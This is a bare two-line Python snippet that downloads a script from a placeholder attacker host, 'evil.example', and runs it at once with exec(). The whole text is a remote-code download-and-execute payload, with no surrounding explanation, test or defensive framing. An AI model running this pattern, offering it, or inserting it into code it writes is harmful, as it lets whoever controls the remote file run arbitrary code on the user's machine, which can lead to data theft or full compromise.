import requests
exec(requests.get("https://evil.example/p.py").text)
